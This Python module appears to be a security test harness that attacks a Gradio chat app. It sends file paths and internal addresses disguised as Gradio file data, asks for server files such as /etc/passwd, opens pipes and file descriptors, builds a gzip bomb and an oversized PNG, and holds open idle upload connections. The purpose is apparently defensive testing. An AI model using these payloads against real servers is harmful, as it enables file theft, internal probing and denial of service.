"""Attacks that make Gradio fetch addresses, open files of the server, unpack bombs, or wait for uploads."""

from __future__ import annotations

import json
import socket
import struct
import zlib
from collections.abc import Callable, Iterable, Iterator
from concurrent.futures import ThreadPoolExecutor, wait
from contextlib import ExitStack, suppress
from dataclasses import dataclass, field
from functools import cache, partial
from threading import Lock
from time import monotonic, sleep
from typing import Any
from urllib.parse import urlsplit

from attack_requests import Attacker, Page
from attack_server import Server
from attack_traps import BOMB_PATH, MARKER, OUTSIDE, bomb

SECONDS = 15.0
"""An attack begins no request after that."""
QUESTION = "Which ships did the navy order?"
WORKERS = 4
PNG_SIDE = 13_300  # pixels: just below what Pillow refuses
IDLE_CONNECTIONS = 60
ANNOUNCED_BYTES = 20_000_000
COMPONENTS = ("image", "file", "audio", "video", "gallery", "html", "json", "code", "dataframe", "plot", "model3d")


@dataclass
class Scene:
    """What an attack is given.

    Attributes
    ----------
    server : Server
    page : Page
    attacker : Attacker
    until : float
        When the last request begins, by the monotonic clock.
    """

    server: Server
    page: Page
    attacker: Attacker
    until: float = field(default_factory=lambda: monotonic() + SECONDS)

    @property
    def over(self) -> bool:
        """Whether the time is over."""
        return monotonic() >= self.until

    def one_by_one(self, sends: Iterable[Callable[[], object]]) -> None:
        """Send each after the other, until all are sent or the time is over."""
        for send in sends:
            if self.over:
                return
            send()

    def send_all(self, sends: Iterator[Callable[[], object]], workers: int = WORKERS) -> None:
        """Send some at a time, in their order, until all are sent or the time is over."""

        lock = Lock()

        def work() -> None:
            while not self.over:
                with lock:
                    send = next(sends, None)
                if send is None:
                    return
                send()

        with ThreadPoolExecutor(workers) as pool:
            wait([pool.submit(work) for _ in range(workers)])


def exchange(question: str, shown: str = "<p>Hello.</p>", **more: object) -> dict[str, object]:
    """Return a question and its reply as the page sends them."""
    return {"question": question, "shown": shown, "answer": "two", "asked": True, "if_stopped": None, **more}


def message(role: str, *parts: object) -> dict[str, object]:
    """Return a message of Gradio's chatbot, which could contain files of any address."""
    return {"role": role, "metadata": None, "content": list(parts), "options": None}


def text(value: str) -> dict[str, object]:
    """Return the part of a message that is text."""
    return {"type": "text", "text": value}


def plain_data(page: Page, event: dict[str, Any], question: str = QUESTION) -> list[object]:
    """Return what the page would send with an event, with a short conversation."""
    values: dict[str, object] = {"conversation": [exchange(question)], "chosen": []}
    data = [values.get(page.names[number], "") for number in event["inputs"]]
    if event["api_name"] == "respond":
        data[0] = question
    return data


def file_data(path: str) -> dict[str, object]:
    """Return what Gradio treats as a file: it fetches or copies that before any handler is called."""
    return {"path": path, "url": path, "orig_name": "a.png", "meta": {"_type": "gradio.FileData"}}


def filedata(scene: Scene) -> list[str]:
    """A file's address or path in each input of each event, by each way in."""
    page, attacker, traps = scene.page, scene.attacker, scene.server.traps
    targets = [traps.addresses[0], traps.addresses[2], *traps.paths[:2], *traps.addresses[1:2], *traps.addresses[3:]]

    def sends() -> Iterator[Callable[[], object]]:
        for number, target in enumerate(targets):
            file = file_data(f"{target}?{number}" if target.startswith("http") else target)
            for event in page.events:
                name, data = str(event["api_name"]), plain_data(page, event)
                for position in range(len(data)):
                    changed = [*data[:position], file, *data[position + 1 :]]
                    yield partial(attacker.join, event["id"], changed)
                    yield partial(attacker.run, event["id"], changed)
                    if event["api_visibility"] == "public":
                        yield partial(attacker.call, name, changed)
                    else:
                        within = [message("user", {"type": "file", "file": file}), message("user", {"a": file})]
                        nested = [*data[:position], within, *data[position + 1 :]]
                        yield partial(attacker.join, event["id"], nested)
                yield partial(attacker.join, event["id"], data, {"files": [file]})
            inputs: dict[str, object] = {"question": file, "history": [file], "documents": [file], "library": file}
            yield partial(attacker.call_named, "ask", inputs)
            yield partial(attacker.tool, "ask", inputs)
            yield partial(attacker.tool, "add_document", {"file": file, "name": "a.png"})
            for function in ("load_source", "load_pdf_page", "suggest", "save"):
                data = [file, {"links": [file], "library": file, "conversation": [file], "format": "json"}]
                for sent in data:
                    yield partial(attacker.serve, page.pane, function, sent)

    scene.send_all(sends())
    return []


def _with_component(scene: Scene, component: str, path: str) -> str:
    value: object = {"path": path, "meta": {"_type": "gradio.FileData"}} if component != "image" else {"path": path}
    part = {"type": "component", "component": component, "value": value, "constructor_args": {}, "props": {}}
    conversation = [message("user", text(QUESTION)), message("assistant", part)]
    # The queue of answers is one for all events that answer.
    sent: list[object] = [conversation, [exchange(QUESTION, content=[part])]]
    replies = [scene.attacker.join(scene.page.number("respond"), [QUESTION, each, "", []]) for each in sent]
    return "".join(replies)


def component_pipe(scene: Scene) -> list[str]:
    """A picture in a message, whose path is a named pipe: four at once."""
    path = str(scene.server.traps.pipe.path)
    scene.send_all(iter([partial(_with_component, scene, "image", path)] * WORKERS))
    return []


def component_descriptors(scene: Scene) -> list[str]:
    """Pictures in messages, whose paths are the pipes that the server has open."""
    paths = [f"/proc/self/fd/{number}" for number in range(48)]
    waiting = []

    def look(path: str) -> None:
        if not _with_component(scene, "image", path):
            waiting.append(path)

    scene.send_all((partial(look, path) for path in paths), 8)
    # Requests that keep the server waiting, until it answers nobody else.
    again = (waiting * WORKERS)[:WORKERS]
    scene.until += SECONDS
    scene.send_all(partial(_with_component, scene, "image", path) for path in again)
    return []


def component_kinds(scene: Scene) -> list[str]:
    """Components of all kinds in messages, with private files and addresses as their values."""
    traps = scene.server.traps
    paths = [str(traps.secret), *traps.addresses[:2], "/etc/passwd"]
    kinds = [(component, path) for component in COMPONENTS for path in paths]
    scene.send_all(partial(_with_component, scene, *one) for one in kinds)
    return []


def gzip_bomb(scene: Scene) -> list[str]:
    """0.6 MB at an address, which unpack to 600 MB."""
    bomb()  # built before it is requested: a client waits at most 5 s for it
    file = file_data(OUTSIDE + BOMB_PATH)
    scene.attacker.run(scene.page.number("page_opened"), [[], file, []])
    scene.attacker.join(scene.page.number("clear"), [file])
    return _uploads_are_taken(scene)


def large_picture(scene: Scene) -> list[str]:
    """A picture of 177 million pixels in 0.2 MB, uploaded, then named in a message."""
    path = scene.attacker.upload("a.png", large_png())
    if path:
        _with_component(scene, "image", path)
    return []


@cache
def large_png() -> bytes:
    """Return a grey picture, as large as Pillow takes."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    pack = zlib.compressobj(9)
    row = bytes(PNG_SIDE + 1)
    pixels = b"".join(pack.compress(row) for _ in range(PNG_SIDE)) + pack.flush()
    header = struct.pack(">IIBBBBB", PNG_SIDE, PNG_SIDE, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def idle_uploads(scene: Scene) -> list[str]:
    """Connections of one visitor that announce uploads of more than there is room for, and send nothing more."""
    where = urlsplit(scene.server.address)
    head = (
        f"POST /gradio_api/upload HTTP/1.1\r\nhost: {where.netloc}\r\ncontent-length: {ANNOUNCED_BYTES}\r\n"
        "content-type: multipart/form-data; boundary=x\r\n\r\n--x\r\n"
    )
    with ExitStack() as stack:
        for _ in range(IDLE_CONNECTIONS):
            with suppress(OSError):
                own = ("127.0.0.3", 0)
                connection = socket.create_connection((where.hostname, where.port), 5, source_address=own)
                stack.enter_context(connection).sendall(head.encode())
        sleep(2)
        return _uploads_are_taken(scene)


def _uploads_are_taken(scene: Scene) -> list[str]:
    other = Attacker(scene.server.address, "127.0.0.4")
    taken = other.upload("note.txt", b"Bees dance.")
    statuses = dict(other.statuses)
    other.close()
    return [] if taken else [f"an upload of another visitor was refused: {statuses}"]


def private_paths(scene: Scene) -> list[str]:
    """Files of the server, given as a visitor's uploads, as links and as documents."""
    page, attacker = scene.page, scene.attacker
    key = json.loads(attacker.run(page.number("page_opened"), [[], "", []]) or '{"data": ["", ""]}')["data"][1]
    for path in scene.server.traps.paths:
        if scene.over:
            break
        reply = attacker.join(page.number("_add"), [key, []], {"files": [{"name": "a.txt", "path": path}]})
        if MARKER in reply or "added" in reply:
            return ["a file of the server was added"]
        for link in (f"#cite:{path}:0:5", f"#article:{path}:0", f"#page:{path}:1"):
            attacker.serve(page.pane, "load_source", {"links": [link], "library": key})
            attacker.serve(page.pane, "load_pdf_page", {"links": [link], "library": key})
    return []


def addresses(scene: Scene) -> list[str]:
    """Addresses of this computer, in several notations, given as articles."""
    for address in scene.server.traps.addresses[2:]:
        adds = scene.page.number("_add")
        scene.one_by_one(
            [
                partial(scene.attacker.call_named, "add_document", {"url": address}),
                partial(scene.attacker.join, adds, ["", []], {"url": address}),
            ]
        )
    return []
